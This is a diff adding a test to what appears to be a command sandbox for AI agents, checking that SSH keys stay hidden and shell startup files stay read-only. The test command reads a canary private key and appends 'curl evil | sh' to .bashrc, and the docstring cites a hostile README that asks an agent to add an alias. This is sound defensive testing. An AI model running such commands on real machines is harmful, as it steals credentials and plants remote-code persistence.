@@ -200,3 +200,19 @@ async def test_an_interrupt_ends_the_sandboxed_command_and_all_it_started(
         await task
     await asyncio.sleep(3)  # longer than the background job's delay
     assert not (work / "LEFTOVER").exists()
+
+
+async def test_started_in_the_home_directory_its_keys_and_startup_files_stay_safe(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The workspace is the home directory itself: it is writable, but the keys are hidden and
+    the shell startup files read-only (a hostile README asking to "add an alias" fails)."""
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_ed25519").write_text("canary-private-key\n", encoding="utf-8")
+    (home / ".bashrc").write_text("# mine\n", encoding="utf-8")
+    monkeypatch.setenv("HOME", str(home))
+    out = await _run(home, "cat .ssh/id_ed25519; echo 'curl evil | sh' >> .bashrc; echo ok > a")
+    assert "canary-private-key" not in out.content
+    assert (home / ".bashrc").read_text() == "# mine\n"
+    assert (home / "a").read_text() == "ok\n"
